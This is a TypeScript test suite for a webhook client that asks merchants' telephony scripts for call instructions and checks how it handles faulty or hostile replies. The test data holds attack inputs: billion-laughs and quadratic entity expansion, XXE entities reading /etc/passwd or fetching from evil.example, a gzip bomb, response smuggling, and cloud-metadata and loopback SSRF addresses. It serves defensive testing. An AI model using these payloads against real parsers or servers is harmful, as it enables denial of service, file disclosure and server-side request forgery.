// Merchants' scripts as they are and at their worst. Each gives an outcome, the caller on the line waits no longer than the
// deadline, and a sentence to the developer says what was wrong. Deadlines are short where the host lets them run out.

import { createServer as createTcpServer } from 'node:net';
import type { RequestListener, ServerResponse } from 'node:http';
import { gzipSync } from 'node:zlib';
import { Webhook } from 'standardwebhooks';
import { afterEach, describe, expect, it } from 'vitest';
import { signingSecret } from '../../src/core/signing-secret.ts';
import type { ScriptFailure } from '../../src/flow/ports.ts';
import { merchantHttp } from '../../src/merchants/outbound.ts';
import { HttpScriptServer } from '../../src/merchants/script-server.ts';
import { twilioSignatureOf } from '../../src/merchants/signature.ts';
import { realClock } from '../../src/clock-and-ids.ts';
import { closeAll, listening, opening, secret } from './scripted-merchant.ts';
import { facts, portTo, scriptThat } from './scripted-script.ts';

afterEach(closeAll);

const sends =
  (
    body: string | Buffer,
    type = 'text/plain',
    status = 200,
    headers: Record<string, string> = {},
  ): RequestListener =>
  (_, response) =>
    void response.writeHead(status, { 'content-type': type, ...headers }).end(body);

describe('a script is asked', () => {
  it('in our JSON, signed as the specification’s own package checks it', async () => {
    const { scripts, asking, received } = await scriptThat('set.balance=12.50\nnext=menu');
    const asked = await scripts.ask(asking());
    expect(asked).toMatchObject({
      outcome: 'answer',
      program: { set: { balance: '12.50' }, steps: [], next: 'menu' },
    });
    expect(asked.outcome === 'answer' && asked.tookMs).toBeGreaterThan(0);
    const [got] = received;
    expect(got).toMatchObject({ method: 'POST', url: '/start.php' });
    expect(got?.headers).toMatchObject({
      'content-type': 'application/json',
      'webhook-id': facts.requestId,
      'ringmeter-request-id': facts.requestId,
      'accept-encoding': 'identity',
    });
    const verified = new Webhook(secret).verify(got?.body ?? '', got?.headers as Record<string, string>);
    expect(verified).toMatchObject({ callId: facts.callId, digits: '4711', variables: { name: 'Zoë' } });
  });

  it('by the secret before too, while that signs', async () => {
    const { scripts, asking, received } = await scriptThat('next=menu');
    const oldSecret = signingSecret(Buffer.alloc(32, 9));
    await scripts.ask(asking({ oldSecret }));
    const headers = received[0]?.headers as Record<string, string>;
    expect(() => new Webhook(oldSecret).verify(received[0]?.body ?? '', headers)).not.toThrow();
  });

  it('in Twilio’s words by POST, signed over the address and the form', async () => {
    const { scripts, asking, received, url } = await scriptThat('next=menu');
    const request = asking({ authToken: 'shared', question: { dialect: 'twiml' } });
    expect(await scripts.ask(request)).toMatchObject({ outcome: 'answer' });
    const [got] = received;
    const form = [...new URLSearchParams(got?.body)];
    expect(Object.fromEntries(form)).toMatchObject({ From: '+33612345678', Digits: '4711', name: 'Zoë' });
    expect(got?.headers).toMatchObject({
      'content-type': 'application/x-www-form-urlencoded; charset=UTF-8',
      'x-twilio-signature': twilioSignatureOf({ token: 'shared', url, form }),
      'i-twilio-idempotency-token': facts.requestId,
    });
    expect(got?.headers).not.toHaveProperty('webhook-signature');
  });

  it('or by GET, signed over all of the address; unsigned without a token', async () => {
    const { scripts, asking, received, host } = await scriptThat('next=menu');
    await scripts.ask(asking({ authToken: 'shared', question: { dialect: 'query' } }));
    await scripts.ask(asking({ question: { dialect: 'query' } }));
    const [got, unsigned] = received;
    expect(got?.method).toBe('GET');
    expect(got?.body).toBe('');
    const asAsked = `http://${host}${got?.url ?? ''}`;
    expect(got?.headers['x-twilio-signature']).toBe(
      twilioSignatureOf({ token: 'shared', url: asAsked, form: [] }),
    );
    expect(unsigned?.headers).not.toHaveProperty('x-twilio-signature');
  });

  it.each([
    '',
    '/',
    '/a?',
    '/a?#top',
    '/a?b=1&b=2&empty=&bare',
    '/a?x=%20+%2B',
    '/é b?q=ü&n=😀',
    "/a?q='(*)!~[]{}|^",
    '/a/../b;c=1?d[]=1&d[]=2',
    '/a//b',
    '/a?b=1&Digits=9',
  ])('signed over what he sees, port and query and all: %j', async (path) => {
    const { scripts, asking, received, host } = await scriptThat('next=menu');
    for (const dialect of ['twiml', 'query'] as const) {
      const question = { dialect, address: { url: `http://${host}${path}` } };
      expect(await scripts.ask(asking({ authToken: 'shared', question }))).toMatchObject({
        outcome: 'answer',
      });
      const got = received.at(-1);
      // As a script puts it together that knows nothing but the request.
      const url = `http://${got?.headers.host ?? ''}${got?.url ?? ''}`;
      const form = got?.method === 'POST' ? [...new URLSearchParams(got.body)] : [];
      expect(got?.headers['x-twilio-signature']).toBe(twilioSignatureOf({ token: 'shared', url, form }));
    }
  });

  it('where an answer sent us, and relative addresses lie beside the question’s', async () => {
    const { scripts, asking, received, host } = await scriptThat(
      '<Response><Redirect>../b</Redirect></Response>',
    );
    const address = { url: `http://${host}/voice/menu/a?step=2`, method: 'GET' as const };
    expect(await scripts.ask(asking({ question: { dialect: 'twiml', address } }))).toMatchObject({
      program: { steps: [{ do: 'redirect', url: `http://${host}/voice/b`, method: 'POST' }] },
    });
    expect(received[0]?.url).toMatch(/^\/voice\/menu\/a\?step=2&CallSid=CA/);
  });

  it('again: the same bytes under the same id, by whoever took the call over', async () => {
    const { scripts, asking, received, host } = await scriptThat('next=menu');
    await scripts.ask(asking());
    await portTo(host).scripts.ask(asking());
    expect(received[1]?.body).toBe(received[0]?.body);
    expect(received[1]?.headers['webhook-id']).toBe(received[0]?.headers['webhook-id']);
  });

  it('over a connection that is kept', async () => {
    const ports = new Set<number | undefined>();
    const { scripts, asking } = await scriptThat((request, response) => {
      ports.add(request.socket.remotePort);
      response.end('next=menu');
    });
    for (let at = 0; at < 5; at += 1) await scripts.ask(asking());
    // One may still be reading its last byte when the next question comes.
    expect(ports.size).toBeLessThan(5);
  });

  it('once more where its kept connection was closed, and no third time', async () => {
    let times = 0;
    const { scripts, asking, received } = await scriptThat((_, response) => {
      times += 1;
      if (times === 1) response.destroy();
      else response.end('next=menu');
    });
    expect(await scripts.ask(asking())).toMatchObject({ outcome: 'answer' });
    expect(received[1]?.body).toBe(received[0]?.body);
    const dead = await scriptThat((_, response) => response.destroy());
    expect(await dead.scripts.ask(dead.asking())).toMatchObject({ because: 'unreachable' });
    expect(dead.received).toHaveLength(2);
  });
});

const drips =
  (first: string): RequestListener =>
  (_, response) => {
    response.writeHead(200, { 'content-type': 'text/plain' });
    response.write(first);
    const dripping = setInterval(() => response.write(' '), 5);
    response.once('close', () => clearInterval(dripping));
  };
function breakOff(response: ServerResponse): void {
  response.writeHead(200, { 'transfer-encoding': 'chunked' }).flushHeaders();
  response.socket?.write('ffff\r\nnext=menu', () => response.destroy());
}
function flood(response: ServerResponse): void {
  response.writeHead(200);
  const pour = (): void => {
    while (!response.destroyed && response.write('z'.repeat(16_384))) continue;
    if (!response.destroyed) response.once('drain', pour);
  };
  pour();
}
const raw =
  (text: string): RequestListener =>
  (request) =>
    void request.socket.end(text);
const laughs = Array.from(
  { length: 9 },
  (_, at) => `<!ENTITY a${String(at + 1)} "${`&a${String(at)};`.repeat(10)}">`,
).join('');
/** 103: more is coming. It never does. */
const hints: RequestListener = (request) => {
  const hint = (): void =>
    void request.socket.write('HTTP/1.1 103 Early Hints\r\nlink: </a>; rel=preload\r\n\r\n');
  hint();
  const hinting = setInterval(hint, 5);
  request.socket.once('close', () => clearInterval(hinting));
};
const xml = (text: string) => sends(text, 'text/xml');

/** The last member: the deadline, where it is to run out. */
const hosts: [string, RequestListener, ScriptFailure, string, number?][] = [
  ['says nothing', () => undefined, 'timeout', 'within 0.5 s', 500],
  [
    'sends headers and nothing more',
    (_, r) => r.writeHead(200).flushHeaders(),
    'timeout',
    'within 0.5 s',
    500,
  ],
  [
    'drips its headers',
    (request) => {
      request.socket.write('HTTP/1.1 200 OK\r\n');
      const dripping = setInterval(() => request.socket.write('x'), 5);
      request.socket.once('close', () => clearInterval(dripping));
    },
    'timeout',
    'within 0.5 s',
    500,
  ],
  ['drips a byte at a time', drips('n'), 'timeout', 'within 0.5 s', 500],
  ['drips after a whole answer', drips('next=menu\n'), 'timeout', 'within 0.5 s', 500],
  [
    'promises more than it sends',
    (_, r) => void r.writeHead(200, { 'content-length': '1000' }).write('next=menu'),
    'timeout',
    'within 0.5 s',
    500,
  ],
  [
    'switches protocols',
    (request) =>
      void request.socket.write(
        'HTTP/1.1 101 Switching Protocols\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n',
      ),
    'unreachable',
    'No answer',
  ],
  ['closes without a word', (_, r) => r.destroy(), 'unreachable', 'No answer'],
  [
    'closes in the middle',
    (_, r) => {
      r.writeHead(200, { 'content-length': '1000' });
      r.write('next=me', () => r.destroy());
    },
    'unreachable',
    'No answer',
  ],
  ['breaks off its chunks', (_, r) => breakOff(r), 'unreachable', 'No answer'],
  [
    'sends more than its length',
    raw('HTTP/1.1 200 OK\r\ncontent-length: 4\r\nconnection: close\r\n\r\nnext=menu'),
    'not_understood',
    'At line 1',
  ],
  [
    'has two lengths',
    raw('HTTP/1.1 200 OK\r\ncontent-length: 4\r\ncontent-length: 9\r\n\r\nnext=menu'),
    'unreachable',
    'No answer',
  ],
  ['hints that more is coming, for ever', hints, 'timeout', 'within 0.5 s', 500],
  [
    'has a length and chunks',
    raw(
      'HTTP/1.1 200 OK\r\ncontent-length: 9\r\ntransfer-encoding: chunked\r\n\r\n9\r\nnext=menu\r\n0\r\n\r\n',
    ),
    'unreachable',
    'No answer',
  ],
  ['speaks no HTTP', raw('220 mail.example ESMTP\r\n'), 'unreachable', 'No answer'],
  ['fails with 500', sends('next=menu', 'text/plain', 500), 'http_status', 'HTTP 500'],
  ['knows no such page', sends('<h1>Not found</h1>', 'text/html', 404), 'http_status', 'HTTP 404'],
  ['does not take the signature', sends('', 'text/plain', 403), 'http_status', 'HTTP 403'],
  [
    'redirects',
    sends('', 'text/plain', 302, { location: 'https://elsewhere.example/' }),
    'http_status',
    'redirect',
  ],
  [
    'redirects to a private address',
    sends('next=menu', 'text/plain', 307, { location: 'http://169.254.169.254/' }),
    'http_status',
    'redirect',
  ],
  ['says 204', sends('', 'text/plain', 204), 'not_understood', 'empty'],
  ['has nothing to say', sends(''), 'not_understood', 'The answer is empty.'],
  [
    'sends a page of HTML',
    sends('<!doctype html><title>Welcome</title>', 'text/html'),
    'not_understood',
    'cannot be read',
  ],
  [
    'sends PHP’s warnings first',
    sends('Warning: Undefined variable $x\nnext=menu', 'text/html'),
    'not_understood',
    'At line 1',
  ],
  [
    'sends a type that is none of ours',
    sends('next=menu', 'image/png'),
    'not_understood',
    'of type image/png',
  ],
  [
    'sends a type that is a sentence',
    sends('next=menu', 'my password is 4711'),
    'not_understood',
    'of no type that can be read',
  ],
  ['sends another charset', sends('next=menu', 'text/plain; charset=utf-16'), 'not_understood', 'UTF-8'],
  ['sends Latin-1 for UTF-8', sends(Buffer.from('say=é', 'latin1')), 'not_understood', 'not UTF-8'],
  ['cuts a character in two', sends(Buffer.from('say=é').subarray(0, 5)), 'not_understood', 'not UTF-8'],
  [
    'sends random bytes',
    sends(Buffer.from(Array.from({ length: 999 }, (_, at) => (at * 197) % 256))),
    'not_understood',
    'not UTF-8',
  ],
  ['sends NULs', sends('say=\u0000'), 'not_understood', 'no control characters'],
  [
    'packs its answer',
    sends(gzipSync('next=menu'), 'text/plain', 200, { 'content-encoding': 'gzip' }),
    'not_understood',
    'packed',
  ],
  [
    'sends a bomb of gzip',
    sends(gzipSync(Buffer.alloc(20_000_000)), 'text/plain', 200, { 'content-encoding': 'gzip' }),
    'not_understood',
    'packed',
  ],
  ['sends a megabyte', sends('x'.repeat(1_000_000)), 'too_large', 'larger than 65536 bytes'],
  ['sends without end', (_, r) => flood(r), 'too_large', 'larger than 65536 bytes'],
  [
    'floods with headers',
    sends('next=menu', 'text/plain', 200, { 'x-much': 'y'.repeat(20_000) }),
    'too_large',
    'headers',
  ],
  ['truncates its JSON', sends('{"next":"men', 'application/json'), 'not_understood', 'not well-formed JSON'],
  [
    'says it twice',
    sends('{"next":"a"}{"next":"a"}', 'application/json'),
    'not_understood',
    'not well-formed JSON',
  ],
  ['nests JSON without end', sends('['.repeat(60_000), 'application/json'), 'not_understood', 'JSON'],
  ['nests XML without end', xml('<a>'.repeat(20_000)), 'not_understood', '8 deep'],
  [
    'sends a billion laughs',
    xml(`<!DOCTYPE r [<!ENTITY a0 "ha">${laughs}]><Response><Say>&a9;</Say></Response>`),
    'not_understood',
    'DOCTYPE',
  ],
  [
    'sends for a file of ours',
    xml('<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]><Response><Say>&a;</Say></Response>'),
    'not_understood',
    'DOCTYPE',
  ],
  [
    'sends an entity of nobody’s',
    xml('<Response><Say>&xxe;</Say></Response>'),
    'not_understood',
    'not well-formed',
  ],
  [
    'sends a style sheet',
    xml('<?xml-stylesheet href="http://evil.example"?><Response/>'),
    'not_understood',
    'processing instruction',
  ],
  [
    'sends a verb of the machine’s',
    xml('<Response><constructor/></Response>'),
    'not_understood',
    'constructor',
  ],
  [
    'sends a quadratic blow-up',
    xml(`<!DOCTYPE r [<!ENTITY a "${'a'.repeat(30_000)}">]><Response>${'&a;'.repeat(9_000)}</Response>`),
    'not_understood',
    'DOCTYPE',
  ],
  [
    'sends for a parameter entity',
    xml('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]><Response/>'),
    'not_understood',
    'DOCTYPE',
  ],
  [
    'sends a thousand attributes',
    xml(`<Response ${Array.from({ length: 999 }, (_, at) => `a${String(at)}=""`).join(' ')}/>`),
    'not_understood',
    'attributes',
  ],
  [
    'sends ten thousand verbs',
    xml(`<Response>${'<Say/>'.repeat(10_000)}</Response>`),
    'not_understood',
    '500 elements',
  ],
  [
    'sends us to a file',
    xml('<Response><Redirect>file:///etc/passwd</Redirect></Response>'),
    'not_understood',
    'http(s)',
  ],
];

describe('a script that', () => {
  it.each(hosts)('%s', async (_name, script, because, sentence, timeoutMs = 5_000) => {
    const { scripts, asking } = await scriptThat(script);
    const asked = await scripts.ask(asking({ timeoutMs }));
    expect(asked).toMatchObject({ outcome: 'failed', because });
    expect(asked.outcome === 'failed' && asked.sentence).toContain(sentence);
    // What is told the merchant's developer is one sentence, and none of the answer's.
    expect(asked.outcome === 'failed' && asked.sentence).toMatch(/^[^<>{}"\n]{10,300}\.$/);
  });

  it('answers twice, once for a question nobody has asked yet: that question has its own answer, or none', async () => {
    const both = ['menu', 'stolen'].map(
      (exit) => `HTTP/1.1 200 OK\r\ncontent-length: ${String(exit.length + 5)}\r\n\r\nnext=${exit}`,
    );
    const { scripts, asking } = await scriptThat((request) => void request.socket.write(both.join('')));
    const given = [await scripts.ask(asking()), await scripts.ask(asking())].map((asked) =>
      asked.outcome === 'answer' ? asked.program.next : asked.outcome,
    );
    expect(given).not.toContain('stolen');
  });

  it('is not there', async () => {
    const { asking, host } = await scriptThat('next=menu');
    await closeAll();
    expect(await portTo(host).scripts.ask(asking())).toMatchObject({
      because: 'unreachable',
      sentence: 'No answer of your script could be had (ECONNREFUSED).',
    });
  });

  it('never ends, at a server that is no HTTP server', async () => {
    const server = createTcpServer((socket) => void socket.write('x'));
    const { scripts, asking } = portTo(await listening(server, new Set()));
    expect(await scripts.ask(asking({ timeoutMs: 500 }))).toMatchObject({ outcome: 'failed' });
  });

  it.each([
    ['loopback', 'http://127.0.0.1:1/'],
    ['a cloud’s metadata', 'http://169.254.169.254/latest'],
    ['loopback in IPv6', 'http://[::1]:8080/'],
    ['no URL', 'merchant.example'],
    ['not http', 'gopher://merchant.example/'],
    ['a password in the address', 'https://user:word@merchant.example/'],
  ])('is at a place that is not spoken to: %s', async (_name, url) => {
    const http = opening(merchantHttp({ httpsOnly: false }));
    const audio = { convert: () => Promise.reject(new Error('never')) };
    const scripts = new HttpScriptServer({ http, clock: realClock, audio });
    for (const dialect of ['json', 'query', 'twiml'] as const) {
      const asked = await scripts.ask({
        secret,
        timeoutMs: 1_000,
        question: { dialect, address: { url }, facts },
      });
      expect(asked).toMatchObject({ outcome: 'failed', because: 'refused_address' });
    }
    expect(await scripts.fetchSound(url)).toMatchObject({ outcome: 'failed', because: 'refused_address' });
  });

  it('gets half a second at least and 20 s at most, whatever the block says', async () => {
    const { scripts, asking } = await scriptThat(() => undefined);
    expect(await scripts.ask(asking({ timeoutMs: 1 }))).toMatchObject({
      sentence: 'Your script did not give a whole answer within 0.5 s.',
    });
  });
});

describe('what is kept of an exchange', () => {
  it('is all of it', async () => {
    const { scripts, asking, received, url } = await scriptThat('next=menu');
    const { exchange } = await scripts.ask(asking());
    expect(exchange).toMatchObject({
      url,
      status: 200,
      requestBody: received[0]?.body,
      answerBody: 'next=menu',
    });
  });

  it.each(['json', 'query', 'twiml'] as const)(
    'but for a PIN, and the token that signs, in %s',
    async (dialect) => {
      const { scripts, asking, received } = await scriptThat('next=menu');
      const secretFacts = { ...facts, digits: '980412', secretDigits: true as const };
      const asked = await scripts.ask(
        asking({ authToken: 'shared-token', question: { dialect, facts: secretFacts } }),
      );
      expect(JSON.stringify(received[0])).toContain('980412');
      for (const hidden of ['980412', 'shared-token', secret]) {
        expect(JSON.stringify(asked)).not.toContain(hidden);
      }
    },
  );
});
